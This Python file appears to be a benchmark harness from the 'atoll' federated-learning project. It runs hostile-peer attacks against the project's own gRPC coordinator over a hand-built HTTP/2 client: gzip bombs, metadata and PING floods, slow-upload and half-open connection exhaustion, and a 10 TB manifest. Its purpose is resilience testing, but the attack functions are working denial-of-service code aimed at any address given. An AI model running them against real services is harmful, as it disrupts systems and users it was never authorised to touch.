"""Attacks by a hostile peer: `python -m benchmarks.attackers KIND ADDRESS SECONDS [CREDENTIAL]`.

HTTP/2 is written by hand, so that an attacker costs as little as a real one: no data is compressed twice, and no answer
is parsed without need. CREDENTIAL is the folder of a malicious member's credential; without it the connection has no
TLS. The last line is JSON: counts of what was sent, and of the answers.
"""

import gzip
import json
import os
import resource
import selectors
import socket
import ssl
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
FRAME_BYTES_MAX = 16384
SLOW_CONNECTIONS, SLOW_STREAMS = 50, 32
HALF_OPEN = 10_000
REOPENED_PER_S = 1000
METADATA_AT_ONCE = 20
PING_CONNECTIONS, PINGS_AT_ONCE, PINGS_PER_S, PING_EVERY_MS = 20, 120_000, 1_000_000, 20
WAIT_S = 5.0

COORDINATOR = "/atoll.v1.Coordinator/"


class Line:
    """A blocking connection with the minimum of HTTP/2 that an attack needs."""

    def __init__(self, address: str, credential: Path | None) -> None:
        host, _, port = address.rpartition(":")
        plain = socket.create_connection((host, int(port)), timeout=WAIT_S)
        self.socket = _secured(plain, credential) if credential is not None else plain
        self._stream, self._read = 1, bytearray()
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))

    def call(self, method: str, data: bytes, *, extra: bytes = b"", more: bytes = b"", ends: bool = True) -> int:
        """Begin a call with its headers and, unless empty, its first bytes; return its stream."""
        stream, self._stream = self._stream, self._stream + 2
        block = b"".join(
            literal(name, value)
            for name, value in (
                *((b":method", b"POST"), (b":scheme", b"http"), (b":path", method.encode()), (b":authority", b"a")),
                *((b"te", b"trailers"), (b"content-type", b"application/grpc")),
            )
        )
        out = headers(stream, block + extra + more) + b"".join(data_frames(stream, data, ends=ends))
        self.socket.sendall(out)
        return stream

    def frames(self) -> Iterator[tuple[int, int, int, bytes]]:
        """Yield type, flags, stream and payload of the incoming frames until the end; settings are acknowledged."""
        while True:
            while len(self._read) >= 9:
                length = int.from_bytes(self._read[:3], "big")
                if len(self._read) < 9 + length:
                    break
                kind, flags = self._read[3], self._read[4]
                stream = int.from_bytes(self._read[5:9], "big") & 0x7FFFFFFF
                payload = bytes(self._read[9 : 9 + length])
                del self._read[: 9 + length]
                if kind == SETTINGS and not flags & ACK:
                    self.socket.sendall(frame(SETTINGS, ACK, 0, b""))
                yield kind, flags, stream, payload
            if not (more := self.socket.recv(65536)):
                return
            self._read += more

    def wait_for_end(self, stream: int) -> str:
        """Wait until the server ends a stream or the connection, and return how it did."""
        for kind, flags, which, payload in self.frames():
            if kind == GOAWAY:
                return f"goaway {int.from_bytes(payload[4:8], 'big')}"
            if which == stream and (kind == RST or (kind == HEADERS and flags & END_STREAM)):
                return "refused"
        return "closed"

    def close(self) -> None:
        """Close the connection."""
        self.socket.close()


def _secured(plain: socket.socket, credential: Path) -> ssl.SSLSocket:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # an attacker trusts anybody
    context.set_alpn_protocols(["h2"])
    context.load_cert_chain(credential / "certificate.pem", credential / "key.pem")
    return context.wrap_socket(plain)


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return one frame (RFC 9113, section 4.1)."""
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def headers(stream: int, block: bytes) -> bytes:
    """Return HEADERS, with the CONTINUATION frames that it needs."""
    parts = [block[at : at + FRAME_BYTES_MAX] for at in range(0, len(block), FRAME_BYTES_MAX)]
    last = len(parts) - 1
    return b"".join(
        frame(CONTINUATION if n else HEADERS, END_HEADERS if n == last else 0, stream, part)
        for n, part in enumerate(parts)
    )


def data_frames(stream: int, data: bytes, *, ends: bool) -> Iterator[bytes]:
    """Yield the DATA frames of the data; none if it is empty."""
    for at in range(0, len(data), FRAME_BYTES_MAX):
        is_last = at + FRAME_BYTES_MAX >= len(data)
        yield frame(DATA, END_STREAM if ends and is_last else 0, stream, data[at : at + FRAME_BYTES_MAX])


def literal(name: bytes, value: bytes) -> bytes:
    """Return a header field without indexing and without Huffman coding (RFC 7541, section 6.2.2)."""
    return b"\x00" + _integer(len(name)) + name + _integer(len(value)) + value


def _integer(number: int) -> bytes:
    """Return an integer with a prefix of seven bits (RFC 7541, section 5.1)."""
    if number < 127:
        return bytes([number])
    out, number = bytearray([127]), number - 127
    while number >= 128:
        out.append(number % 128 + 128)
        number //= 128
    return bytes([*out, number])


# ---------------------------------------------------------------- attacks


def goes_on(until: float, seen: Counter[str]) -> bool:
    """Return whether an attack continues: until its time is over, but not before one of its calls was answered."""
    return time.monotonic() < until or not seen.keys() - {"sent"}


def gzip_bomb(open_line: Callable[[], Line], until: float, seen: Counter[str]) -> None:
    """Send messages of 60 KiB that inflate to 60 MiB."""
    packed = gzip.compress(bytes(60 << 20), 9)
    message = b"\x01" + len(packed).to_bytes(4, "big") + packed
    while goes_on(until, seen):
        with suppress(OSError):
            line = open_line()
            for _ in range(100):
                stream = line.call(
                    COORDINATOR + "GetManifest", message[:65535], extra=literal(b"grpc-encoding", b"gzip")
                )
                seen["sent"] += 1
                seen[line.wait_for_end(stream)] += 1
                if time.monotonic() >= until:
                    break
            line.close()


def metadata_flood(open_line: Callable[[], Line], until: float, seen: Counter[str]) -> None:
    """Send calls with 96 KiB of metadata."""
    extra = b"".join(literal(b"x-%d" % n, b"m" * 4000) for n in range(24))
    while goes_on(until, seen):
        with suppress(OSError):
            line = open_line()
            while time.monotonic() < until:
                for _ in range(METADATA_AT_ONCE):
                    stream = line.call(COORDINATOR + "GetManifest", bytes(5), extra=extra)
                    seen["sent"] += 1
                how = line.wait_for_end(stream)
                seen[how] += 1
                if how != "refused":
                    break
            line.close()


def ping_flood(open_line: Callable[[], Line], until: float, seen: Counter[str]) -> None:
    """Send PINGs without reading the answers: a burst on each connection, then a million a second over all of them.

    Closed connections are replaced, two a second.
    """
    ping = frame(PING, 0, 0, b"01234567")
    num_due = PINGS_PER_S * PING_EVERY_MS // 1000 // PING_CONNECTIONS
    lines: list[Line] = []
    due = open_at = time.monotonic()
    while (now := time.monotonic()) < until:
        if now >= open_at and len(lines) < PING_CONNECTIONS:
            open_at = now + 0.5
            with suppress(OSError):
                lines.append(open_line())
                lines[-1].socket.sendall(ping * PINGS_AT_ONCE)
                seen["sent"] += PINGS_AT_ONCE
        for line in [*lines]:
            line.socket.setblocking(False)
            try:
                line.socket.send(ping * num_due)
                seen["sent"] += num_due
            except (BlockingIOError, ssl.SSLWantWriteError):
                pass  # its buffer is full: leave it open
            except OSError:
                lines.remove(line)
                line.close()
                seen["closed"] += 1
        due = max(now, due + PING_EVERY_MS / 1000)
        time.sleep(max(0.0, due - time.monotonic()))
    seen["held"] = len(lines)


def slow_upload(open_line: Callable[[], Line], until: float, seen: Counter[str]) -> None:
    """Open thousands of uploads that each send one byte a second of a message of 1 MiB."""
    begun = b"\x00" + (1 << 20).to_bytes(4, "big") + b"\x0a"
    lines: list[tuple[Line, list[int]]] = []
    for _ in range(SLOW_CONNECTIONS):
        with suppress(OSError):
            line = open_line()
            streams = [line.call(COORDINATOR + "Upload", begun, ends=False) for _ in range(SLOW_STREAMS)]
            line.socket.setblocking(False)
            lines.append((line, streams))
            seen["streams"] += len(streams)
    while time.monotonic() < until:
        for line, streams in lines:
            with suppress(OSError):  # closed by now, or its buffer is full
                line.socket.send(b"".join(frame(DATA, 0, stream, b"\xff") for stream in streams))
                seen["sent"] += len(streams)
            with suppress(OSError):
                while line.socket.recv(65536):
                    pass
        time.sleep(1.0)


def huge_manifest(open_line: Callable[[], Line], until: float, seen: Counter[str]) -> None:
    """Begin uploads whose manifest declares 10 TB."""
    from atoll.protocol import atoll_pb2 as pb
    from atoll.protocol.manifest import UpdateManifest
    from atoll.protocol.vocabulary import ClientId, Digest, RoundId, RunId, Version
    from atoll.tensors.layout import Piece

    pieces = tuple(Piece(f"w{n:03d}", "F32", (0,), (25_000_000_000,), "ab" * 32) for n in range(100))
    manifest = UpdateManifest(
        *(RunId("hostile-1"), RoundId(1), ClientId("mallory"), Version(0), Digest("ab" * 32)), 1, 1.0, pieces
    )
    request = pb.UploadRequest(open=pb.UploadOpen(manifest=manifest.encode())).SerializeToString()
    message = b"\x00" + len(request).to_bytes(4, "big") + request
    while goes_on(until, seen):
        with suppress(OSError):
            line = open_line()
            for _ in range(100):
                stream = line.call(COORDINATOR + "Upload", message)
                seen["sent"] += 1
                seen[line.wait_for_end(stream)] += 1
                if time.monotonic() >= until:
                    break
            line.close()


def half_open(address: str, until: float, seen: Counter[str]) -> None:
    """Open TCP connections that never send a byte; closed ones are replaced at a limited rate."""
    host, _, port = address.rpartition(":")
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    selector = selectors.DefaultSelector()
    number = min(HALF_OPEN, hard - 100)

    def connect() -> None:
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex((host, int(port)))
        selector.register(connection, selectors.EVENT_READ)
        seen["sent"] += 1

    missing = 0
    for _ in range(number):
        connect()
    seen["open"] = len(selector.get_map())  # at the lowest priority that may have taken the whole window
    while time.monotonic() < until:
        seen["open"] = max(seen["open"], len(selector.get_map()))
        closed = 0
        for key, _ in selector.select(0.2):
            connection = key.fileobj
            assert isinstance(connection, socket.socket)
            with suppress(OSError):
                if connection.recv(4096):
                    continue
            selector.unregister(connection)
            connection.close()
            seen["closed"] += 1
            closed += 1
        missing += closed
        for _ in range(min(missing, REOPENED_PER_S // 5)):
            connect()
            missing -= 1
        time.sleep(0.2)


KINDS = {
    "gzip_bomb": gzip_bomb,
    "metadata_flood": metadata_flood,
    "ping_flood": ping_flood,
    "slow_upload": slow_upload,
    "huge_manifest": huge_manifest,
}


def main() -> int:
    """Run one attack for some seconds at the lowest priority."""
    kind, address, seconds, *credential = sys.argv[1:]
    os.nice(19)
    place = Path(credential[0]) if credential else None
    seen: Counter[str] = Counter()
    until = time.monotonic() + float(seconds)
    if kind == "half_open":
        half_open(address, until, seen)
    else:
        KINDS[kind](lambda: Line(address, place), until, seen)
    print(json.dumps(seen), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
